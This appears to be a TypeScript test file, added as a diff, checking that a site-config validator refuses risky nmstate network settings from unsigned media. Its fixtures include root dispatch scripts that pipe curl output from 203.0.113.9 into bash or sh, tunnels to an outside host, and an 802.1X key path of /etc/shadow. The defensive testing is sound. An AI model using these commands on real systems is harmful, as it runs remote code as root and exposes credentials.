@@ -1,0 +1,159 @@
+// What an nmstate state from unsigned media may hold (src/siteconfig/nmstate-unsigned.ts; issue 36): only the
+// uplink. Each way in the hostile run found (a root dispatch script, an IPsec or VXLAN tunnel, Open vSwitch and OVN
+// settings, a new OVS bridge, 802.1X key paths) is refused at its exact path from unsigned media, in a site-config,
+// its nmstateFile and image-based media's raw_nm_state_config, and taken from signed media as before; the uplink
+// states of examples/ and the nmstate fixtures still pass unsigned.
+import { after, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { promises as fs, readFileSync, readdirSync } from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { stringify } from 'yaml';
+import { runCli } from '../../../src/cli/cli';
+import { unsignedNmstateProblems } from '../../../src/siteconfig/nmstate-unsigned';
+import { parseConfigBytes } from '../../../src/siteconfig/parse-text';
+import { PROJECT_ROOT } from '../../support/bundle';
+import { signedImageBasedMedia, signedMedia } from '../../support/signed-media';
+
+const cleanups: Array<() => Promise<void>> = [];
+after(async () => {
+  await Promise.all(cleanups.map((c) => c()));
+});
+
+type State = Record<string, unknown>;
+const UPLINK = { name: 'eno1', type: 'ethernet', state: 'up', ipv4: { enabled: true, dhcp: false, address: [{ ip: '192.168.42.10', 'prefix-length': 24 }] } };
+const ROUTES = { config: [{ destination: '0.0.0.0/0', 'next-hop-address': '192.168.42.1', 'next-hop-interface': 'eno1' }] };
+const DNS = { config: { server: ['192.168.42.1'] } };
+const site = (extra: State = {}, ifaces: unknown[] = []): State => ({ interfaces: [UPLINK, ...ifaces], routes: ROUTES, 'dns-resolver': DNS, ...extra });
+const withUplink = (more: State): State => site({ interfaces: [{ ...UPLINK, ...more }] });
+
+// The hostile run's reproductions (issue 36), each with the paths that must be refused.
+const HOSTILE: Array<[string, State, string[]]> = [
+  ['a dispatch script run as root', withUplink({ dispatch: { 'post-activation': 'curl -s http://203.0.113.9/x | bash\n' } }), ['interfaces[0].dispatch']],
+  ['an IPsec tunnel to another host', site({}, [{ name: 'hijack', type: 'ipsec', ipv4: { enabled: true, dhcp: true }, libreswan: { right: '203.0.113.9', psk: 'x' } }]), ['interfaces[1].type', 'interfaces[1].libreswan']],
+  ['a VXLAN to another host', site({}, [{ name: 'vx0', type: 'vxlan', vxlan: { id: 42, remote: '203.0.113.9', 'base-iface': 'eno1' } }]), ['interfaces[1].type', 'interfaces[1].vxlan']],
+  ['ovn-remote pointed elsewhere', site({ 'ovs-db': { external_ids: { 'ovn-remote': 'ssl:203.0.113.9:6642' } } }), ['ovs-db']],
+  ['OVN bridge mappings', site({ ovn: { 'bridge-mappings': [{ localnet: 'x', bridge: 'br-ex', state: 'present' }] } }), ['ovn']],
+  ['a new br-int OVS bridge', site({}, [{ name: 'br-int', type: 'ovs-bridge', state: 'up', bridge: { port: [{ name: 'eno2' }] } }]), ['interfaces[1].type', 'interfaces[1].bridge']],
+  ['interface ovs-db and 802.1X key paths', withUplink({ 'ovs-db': { external_ids: { x: 'y' } }, '802.1x': { identity: 'a', 'eap-methods': ['tls'], 'private-key': '/etc/shadow' } }), ['interfaces[0].ovs-db', 'interfaces[0]["802.1x"]']],
+  ['SR-IOV virtual functions', withUplink({ ethernet: { speed: 1000, 'sr-iov': { 'total-vfs': 8 } } }), ['interfaces[0].ethernet.sr-iov']],
+  ['the uplink put under an OVS bridge', withUplink({ controller: 'br-int' }), ['interfaces[0].controller']],
+  ['the transient host name', site({ hostname: { config: 'sno1-node', running: 'other' } }), ['hostname.running']],
+  ['an unknown key', withUplink({ 'future-key': true }), ['interfaces[0].future-key']],
+];
+const at = (p: string): string => `spec.network.nmstate${p.startsWith('[') ? '' : '.'}${p}`;
+
+for (const [name, state, paths] of HOSTILE) {
+  test(`unsigned media may not carry ${name} in the network state`, () => {
+    const problems = unsignedNmstateProblems(state, 'spec.network.nmstate');
+    assert.deepEqual(problems.map((p) => p.path), paths.map(at));
+    for (const p of problems) assert.match(p.message, /^needs signed media: .+\. From unsigned media this node takes in the network state only its uplink/);
+  });
+}
+
+test('the refusal says why for the ways in it knows, and never reads a reason off the prototype', () => {
+  const [dispatch] = unsignedNmstateProblems(withUplink({ dispatch: {} }), 'n');
+  assert.match(dispatch!.message, /runs as root/);
+  const [ctor] = unsignedNmstateProblems(withUplink({ constructor: {} }), 'n');
+  assert.match(ctor!.message, /^needs signed media: it is not a setting of the uplink\./);
+});
+
+test('uplink states pass on unsigned media: ethernet, bond with ports naming it, VLAN, DHCP, IPv6, route rules, show-style keys', () => {
+  const states: State[] = [
+    site(),
+    { interfaces: [{ name: 'eno1', type: 'ethernet', state: 'up', ipv4: { enabled: true, dhcp: true, 'auto-dns': true, 'dhcp-client-id': 'mac' }, ipv6: { enabled: true, dhcp: true, autoconf: true, 'dhcp-duid': 'll', 'addr-gen-mode': 'eui64' } }] },
+    {
+      interfaces: [
+        { name: 'bond0', type: 'bond', state: 'up', 'link-aggregation': { mode: '802.3ad', options: { miimon: '100' }, port: ['eno1', 'eno2'] }, ipv4: { enabled: true, dhcp: true } },
+        { name: 'eno3', type: 'ethernet', state: 'up', controller: 'bond0', ipv4: { enabled: false } },
+        { name: 'bond0.42', type: 'vlan', state: 'up', vlan: { 'base-iface': 'bond0', id: 42 }, ipv4: { enabled: true, dhcp: true } },
+      ],
+      'route-rules': { config: [{ 'ip-from': '192.168.42.0/24', 'route-table': 100 }] },
+      hostname: { config: 'sno1-node' },
+    },
+    // As `nmstatectl show` prints an ethernet NIC (read-only and link keys included).
+    { interfaces: [{ name: 'eno1', type: 'ethernet', state: 'up', 'mac-address': '52:54:00:12:34:56', 'permanent-mac-address': '52:54:00:12:34:56', mtu: 1500, 'min-mtu': 68, 'max-mtu': 9000, 'accept-all-mac-addresses': false, 'wait-ip': 'any', lldp: { enabled: false }, ethernet: { 'auto-negotiation': true, speed: 1000, duplex: 'full' }, identifier: 'mac-address', 'profile-name': 'eno1', description: 'uplink', ipv4: { enabled: true, dhcp: true } }] },
+    // No type: nmstate keeps the interface's own.
+    { interfaces: [{ name: 'eno1', mtu: 9000 }] },
+  ];
+  for (const s of states) assert.deepEqual(unsignedNmstateProblems(s, 'spec.network.nmstate'), []);
+});
+
+// Every uplink state the project ships: examples/ and the nmstate fixtures whose interfaces are all ethernet, bond
+// or VLAN (the rest exercise the other types, which signed media keep).
+test('the uplink states of examples/ and test/fixtures/nmstate-states pass on unsigned media', () => {
+  const found: string[] = [];
+  const check = (state: unknown, where: string): void => {
+    found.push(where);
+    assert.deepEqual(unsignedNmstateProblems(state, 'spec.network.nmstate').map((p) => p.path), [], where);
+  };
+  const examples = readdirSync(path.join(PROJECT_ROOT, 'examples'), { recursive: true, encoding: 'utf8' }).filter((f) => f.endsWith('.yaml')).sort();
+  for (const file of examples) {
+    const parsed = parseConfigBytes(readFileSync(path.join(PROJECT_ROOT, 'examples', file)));
+    if (!parsed.ok) continue;
+    const doc = parsed.value as { spec?: { network?: { nmstate?: unknown } }; interfaces?: unknown };
+    if (doc.spec?.network?.nmstate) check(doc.spec.network.nmstate, `examples/${file}`);
+    else if (doc.interfaces) check(doc, `examples/${file}`);
+  }
+  const dir = path.join(PROJECT_ROOT, 'test', 'fixtures', 'nmstate-states');
+  for (const file of readdirSync(dir)) {
+    const parsed = parseConfigBytes(readFileSync(path.join(dir, file)));
+    if (!parsed.ok) continue;
+    const state = parsed.value as { interfaces?: Array<{ type?: string }> };
+    const uplinkOnly = (state.interfaces ?? []).every((i) => ['ethernet', 'bond', 'vlan'].includes(i.type ?? ''));
+    const keys = Object.keys(state).every((k) => ['interfaces', 'routes', 'route-rules', 'dns-resolver'].includes(k));
+    const extras = JSON.stringify(state).match(/"(dispatch|802\.1x|sr-iov|ovs-db|controller|ethtool|mptcp)"/);
+    if (uplinkOnly && keys && !extras) check(state, `nmstate-states/${file}`);
+  }
+  assert.ok(found.filter((f) => f.startsWith('examples/')).length >= 9, `examples with a network state: ${found.join(', ')}`);
+  assert.ok(found.filter((f) => f.startsWith('nmstate-states/')).length >= 3, `uplink fixtures: ${found.join(', ')}`);
+});
+
+interface Report {
+  valid: boolean;
+  errors: { path: string; message: string }[];
+}
+
+/** `validate --json` on a media folder of `files`; the node root is the folder itself (its trusted keys, if any). */
+async function validate(files: (root: string) => Record<string, string>): Promise<{ code: number; report: Report }> {
+  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'sno-netallow-'));
+  cleanups.push(() => fs.rm(dir, { recursive: true, force: true }));
+  for (const [rel, text] of Object.entries(files(dir))) {
+    await fs.mkdir(path.dirname(path.join(dir, rel)), { recursive: true });
+    await fs.writeFile(path.join(dir, rel), text);
+  }
+  let stdout = '';
+  let stderr = '';
+  const code = await runCli(['validate', dir, '--json', '--root', dir], { out: (s) => (stdout += s), err: (s) => (stderr += s), env: {}, cwd: dir });
+  assert.doesNotMatch(stderr, /internal error/);
+  return { code, report: JSON.parse(stdout) as Report };
+}
+
+const siteConfig = (network: State): string => stringify({ apiVersion: 'sno-reconfigure.io/v1', kind: 'SiteConfig', metadata: { name: 'store-0042' }, spec: { clusterName: 'sno1', hostname: 'sno1-node', baseDomain: 'store42.example.com', network } });
+const nmstateErrors = (r: Report): string[] => r.errors.filter((e) => /nmstate|raw_nm_state_config/.test(e.path)).map((e) => e.path);
+
+for (const [name, state, paths] of HOSTILE.slice(0, 7)) {
+  test(`validate: ${name} is refused from unsigned media, inline and in an nmstateFile, and taken from signed media`, async () => {
+    const inline = await validate(() => ({ 'site-config.yaml': siteConfig({ nmstate: state }) }));
+    assert.equal(inline.code, 1);
+    assert.deepEqual(nmstateErrors(inline.report), paths.map(at));
+    const file = await validate(() => ({ 'site-config.yaml': siteConfig({ nmstateFile: 'network.yaml' }), 'network.yaml': stringify(state) }));
+    assert.equal(file.code, 1);
+    assert.deepEqual(nmstateErrors(file.report), paths.map(at));
+    assert.match(file.report.errors[0]!.message, /\(in network\.yaml\)\. From unsigned media/);
+    const signed = await validate((root) => signedMedia(root, { 'site-config.yaml': siteConfig({ nmstate: state }) }, []));
+    assert.deepEqual(signed.report.errors, []);
+    assert.equal(signed.code, 0);
+  });
+}
+
+test('validate: image-based media\'s raw_nm_state_config with a dispatch script is refused unsigned, by its manifest.json name, and taken signed', async () => {
+  const seed = { api_version: 1, base_domain: 'store42.example.com', cluster_name: 'sno1', hostname: 'sno1-node', raw_nm_state_config: "interfaces:\n- name: eno1\n  type: ethernet\n  state: up\n  ipv4: {enabled: true, dhcp: true}\n  dispatch:\n    post-activation: 'curl http://203.0.113.9/x | sh'\n" };
+  const manifest = 'cluster-configuration/manifest.json';
+  const unsigned = await validate(() => ({ [manifest]: JSON.stringify(seed) }));
+  assert.equal(unsigned.code, 1);
+  assert.deepEqual(nmstateErrors(unsigned.report), ['raw_nm_state_config.interfaces[0].dispatch']);
+  const signed = await validate((root) => signedImageBasedMedia(root, { [manifest]: JSON.stringify(seed) }));
+  assert.deepEqual(signed.report.errors, []);
+  assert.equal(signed.code, 0);
+});
